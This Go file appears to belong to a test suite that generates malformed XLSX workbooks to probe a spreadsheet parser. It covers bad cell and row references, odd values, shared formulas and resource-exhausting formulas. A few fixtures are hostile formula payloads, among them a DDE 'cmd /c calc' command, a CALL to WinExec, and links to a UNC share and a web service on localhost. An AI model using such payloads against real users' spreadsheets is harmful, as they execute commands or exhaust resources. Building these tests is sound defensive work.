package hostiletest

import (
	"strconv"
	"strings"
)

func itoa(i int) string { return strconv.Itoa(i) }

// cells are dangers of where cells stand, and of how they hold what they hold.
func (b Base) cells() []File {
	one := func(name, danger, xml string) File { return b.book("cell-"+name, danger, cell(xml)) }
	valued := func(name, danger, value string) File {
		return one(name, danger, `<c r="D6" s="9"><v>`+value+`</v></c>`)
	}
	const rest = `<c r="E6" s="9"><v>53</v></c>`
	return []File{
		one("column-million", "a column far beyond the last", received+`<c r="ZZZZZZ6"><v>1</v></c>`),
		one("column-overflow", "a column beyond all numbers",
			received+`<c r="`+strings.Repeat("Z", 40)+`6"><v>1</v></c>`),
		one("column-last", "the last column that there is", received+`<c r="XFD6"><v>1</v></c>`),
		one("row-overflow", "a row beyond all numbers", received+`<c r="D99999999999999999999"><v>1</v></c>`),
		one("row-zero", "a row 0", received+`<c r="D0"><v>1</v></c>`),
		one("negative", "a reference with a sign", `<c r="D-6" s="9"><v>3001</v></c>`),
		one("absolute", "a reference with dollars", `<c r="$D$6" s="9"><v>3001</v></c>`),
		one("small", "a reference in small letters", `<c r="d6" s="9"><v>3001</v></c>`),
		one("no-reference", "a cell without a reference", `<c s="9"><v>3001</v></c>`),
		one("other-row", "a cell that says it stands in another row", `<c r="D7" s="9"><v>3001</v></c>`),
		one("twice", "a cell twice, with two figures", received+`<c r="D6" s="9"><v>3002</v></c>`),
		one("twice-equal", "a cell twice, with one figure", received+received),
		one("twice-before", "a cell twice, the false one first", `<c r="D6" s="9"><v>3002</v></c>`+received),
		one("backward", "cells from right to left", rest+received),
		one("two-values", "a cell of two values", `<c r="D6" s="9"><v>3001</v><v>3002</v></c>`),
		one("value-and-text", "a cell of a value and a text", `<c r="D6" s="9"><v>3001</v><is><t>3002</t></is></c>`),
		one("nested", "a cell within a cell", `<c r="D6" s="9"><c r="D6"><v>3002</v></c><v>3001</v></c>`),
		one("alternative", "a figure for each program", alternatives(`<c r="D6" s="9"><v>3002</v></c>`, received)),
		valued("infinite", "a figure without end", "INF"), valued("not-a-number", "a figure that is none", "NaN"),
		valued("exponent-huge", "a figure beyond all numbers", "1e999999999"),
		valued("exponent-small", "a figure next to nothing", "1e-999999999"),
		valued("exponent", "a figure with an exponent", "3.001e3"),
		valued("hexadecimal", "a figure in base 16", "0xBB9"),
		valued("underscored", "a figure with an underscore", "3_001"),
		valued("negative-figure", "a figure below nothing", "-3001"),
		valued("fraction", "a figure with a fraction", "3001.5"),
		valued("near-whole", "a figure that is whole but for the arithmetic of computers", "3000.9999999999995"),
		valued("spaced", "a figure between spaces", " 3001 "), valued("empty", "a cell of no figure", ""),
		one("type-unknown", "a type of cell that is none", `<c r="D6" s="9" t="zzz"><v>3001</v></c>`),
		one("type-boolean", "a figure that is a truth", `<c r="D6" s="9" t="b"><v>1</v></c>`),
		one("type-error", "a figure that is an error", `<c r="D6" s="9" t="e"><v>#REF!</v></c>`),
		one("type-date", "a figure that is a date", `<c r="D6" s="9" t="d"><v>2024-01-01</v></c>`),
		one("type-text", "a figure that is a text", `<c r="D6" s="9" t="str"><v>3001</v></c>`),
		one("type-rich", "a figure of pieces",
			`<c r="D6" s="9" t="inlineStr"><is><r><t>30</t></r><r><t>01</t></r></is></c>`),
		one("type-phonetic", "a figure with another as its pronunciation",
			`<c r="D6" s="9" t="inlineStr"><is><t>3001</t><rPh sb="0" eb="1"><t>9</t></rPh></is></c>`),
		one("string-out-of-range", "a text that is not there", `<c r="D6" s="9" t="s"><v>999999</v></c>`),
		one("string-negative", "a text before the first", `<c r="D6" s="9" t="s"><v>-1</v></c>`),
		one("string-word", "a text whose number is none", `<c r="D6" s="9" t="s"><v>abc</v></c>`),
		one("string-huge", "a text beyond all numbers", `<c r="D6" s="9" t="s"><v>99999999999999999999</v></c>`),
		one("escape", "a figure as an escape of Excel's", `<c r="D6" s="9" t="str"><v>300_x0031_</v></c>`),
		one("style-out-of-range", "a format that is not there", `<c r="D6" s="99999"><v>3001</v></c>`),
		one("style-negative", "a format before the first", `<c r="D6" s="-1"><v>3001</v></c>`),
	}
}

// rows are dangers of where rows stand.
func (b Base) rows() []File {
	rowSix, rowSeven := `<row r="6" ht="21" customHeight="1">`, `<row r="7" ht="21" customHeight="1">`
	row := func(name, danger, old, new string) File {
		return b.book("row-"+name, danger, change{applications, old, new})
	}
	return []File{
		row("swapped", "rows out of order", rowSix, `<row r="29"><c r="D29" s="9"><v>0</v></c></row>`+rowSix),
		row("twice", "a row twice, with two figures", rowSeven,
			rowSix+`<c r="D6" s="9"><v>3002</v></c></row>`+rowSeven),
		row("zero", "a row 0", rowSix, `<row r="0"><c r="D0"><v>9</v></c></row>`+rowSix),
		row("overflow", "a row beyond all numbers", rowSix, `<row r="99999999999999999999"/>`+rowSix),
		row("no-number", "a row without a number", rowSix, `<row>`),
		row("other-number", "a row whose cells say that they stand in another", rowSix, `<row r="5">`),
		row("hidden", "a row that nobody sees", rowSix, `<row r="6" hidden="1">`),
	}
}

// alternatives give each program what it takes: what knows the extensions of 2010, and what does not.
func alternatives(known, other string) string {
	const open, of = `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">`,
		`<mc:Choice xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" Requires="x14">`
	return open + of + known + "</mc:Choice><mc:Fallback>" + other + "</mc:Fallback></mc:AlternateContent>"
}

// formulas are dangers of what a workbook has calculated.
func (b Base) formulas() []File {
	// one puts a formula with a result in the place of the total, which the program holds against what it must be.
	one := func(name, danger, formula, result string) File {
		return b.book("formula-"+name, danger,
			change{applications, total, `<c r="J6" s="10"><f>` + formula + `</f><v>` + result + `</v></c>`})
	}
	return []File{
		one("rept", "a text of a billion characters", `LEN(REPT("1",1000000000))`, "3119"),
		one("rept-nested", "texts repeated over and over", nested(9, "REPT(", `"1"`, ",32767)"), "3119"),
		one("power", "a figure of a billion digits", "9^9^9^9", "3119"),
		one("factorial", "a product without end", "FACT(FACT(200))", "3119"),
		one("whole-sheet", "the sum of a whole sheet", "SUM(A1:XFD1048576)", "3119"),
		one("whole-columns", "a product of whole columns", "SUMPRODUCT((A:A=D:D)*(B:B=E:E)*1)", "3119"),
		one("long", "a sum of 8,000 terms", "D6"+strings.Repeat("+0", 8000)+"+E6+F6+G6+H6+I6", "3119"),
		one("brackets", "100,000 brackets", nested(100_000, "(", "D6", ")"), "3119"),
		one("signs", "100,000 signs", strings.Repeat("-", 100_000)+"D6", "3119"),
		one("ifs", "8,000 conditions within each other", nested(8000, "IF(1,", "D6", ",0)"), "3119"),
		one("percents", "100,000 percents", "D6"+strings.Repeat("%", 100_000), "3119"),
		b.book("formula-doubling", "cells each of which is twice the next", change{applications, total,
			`<c r="J6" s="10"><f>K6+K6</f><v>3119</v></c>` + numbered(200, func(i int) string {
				return `<c r="` + column(i+10) + `6"><f>` + column(i+11) + `6+` + column(i+11) + `6</f><v>3119</v></c>`
			})}),
		one("circle-self", "a cell that is itself", "J6", "3119"),
		one("circle-sum", "a sum of itself", "SUM(D6:J6)", "3119"),
		b.book("formula-circle-two", "two cells that are each other",
			change{applications, total, `<c r="J6" s="10"><f>K6</f><v>3119</v></c><c r="K6"><f>J6</f><v>3119</v></c>`}),
		one("external", "a figure of another workbook", "[1]Sheet1!A1", "3119"),
		one("external-file", "a figure of a file on a share", `'\\127.0.0.1\evil\[a.xlsx]Sheet1'!A1`, "3119"),
		one("dde", "a command of the machine's", "cmd|'/c calc'!A0", "3119"),
		one("web", "a figure from the web", `WEBSERVICE("http://127.0.0.1:9/"&amp;D6)`, "3119"),
		one("link", "a link that says a figure", `HYPERLINK("http://127.0.0.1:9/","3119")`, "3119"),
		one("indirect", "a figure from wherever a text says", `INDIRECT("D"&amp;6)`, "3119"),
		one("volatile", "a figure that is another every time", "RANDBETWEEN(0,9999)", "3119"),
		one("call", "a function of a library's", `CALL("kernel32","WinExec","JCJ","calc",0)`, "3119"),
		one("unfinished", "a formula without an end", "SUM(D6:", "3119"),
		one("empty", "a formula of nothing", "", "3119"),
		one("reference-gone", "a reference that is gone", "SUM(#REF!)", "3119"),
		one("text", "a formula that is a text", `"3119"`, "3119"),
		one("constant", "a formula that is the figure itself", "3119", "3119"),
		one("true-now", "a sum that leaves a column out", "SUM(D6:H6)+4", "3119"),
		one("stale", "a result that the formula does not give", "SUM(D6:I6)", "3118"),
	}
}

// sharing are dangers of formulas that stand for more cells than one, or of two in a cell.
func (b Base) sharing() []File {
	typed := func(name, danger, xml string) File {
		return b.book("formula-"+name, danger,
			change{applications, total, `<c r="J6" s="10">` + xml + `<v>3119</v></c>`})
	}
	return []File{
		typed("shared-no-master", "a shared formula that nobody has", `<f t="shared" si="7"/>`),
		typed("shared-self", "a shared formula whose range is the sheet",
			`<f t="shared" ref="A1:XFD1048576" si="0">SUM(D6:I6)</f>`),
		typed("shared-off-sheet", "a shared formula that leads beyond the sheet",
			`<f t="shared" ref="J6:J9" si="0">SUM(XFC1048575:XFD1048576)</f>`),
		typed("shared-negative", "a shared formula with a number below nothing",
			`<f t="shared" ref="J6" si="-5">SUM(D6:I6)</f>`),
		typed("array-sheet", "a formula of the whole sheet", `<f t="array" ref="A1:XFD1048576">SUM(D6:I6)</f>`),
		typed("table", "a table of what could be", `<f t="dataTable" ref="J6:J9" dt2D="1" r1="D6" r2="E6"/>`),
		typed("twice", "two formulas", `<f>SUM(D6:I6)</f><f>SUM(D7:I7)</f>`),
		b.book("formula-shared-twice", "a shared formula with two masters", change{applications, total,
			`<c r="J6" s="10"><f t="shared" ref="J6:J7" si="0">SUM(D6:I6)</f><v>3119</v></c>` +
				`<c r="K6"><f t="shared" ref="J6:J7" si="0">SUM(A1:B2)</f><v>0</v></c>`},
			change{applications, `<f>SUM(D7:I7)</f>`, `<f t="shared" si="0"/>`}),
	}
}

// column returns a column's letters, the first's for 0.
func column(i int) string {
	var letters string
	for i++; i > 0; i = (i - 1) / 26 {
		letters = string(rune('A'+(i-1)%26)) + letters
	}
	return letters
}
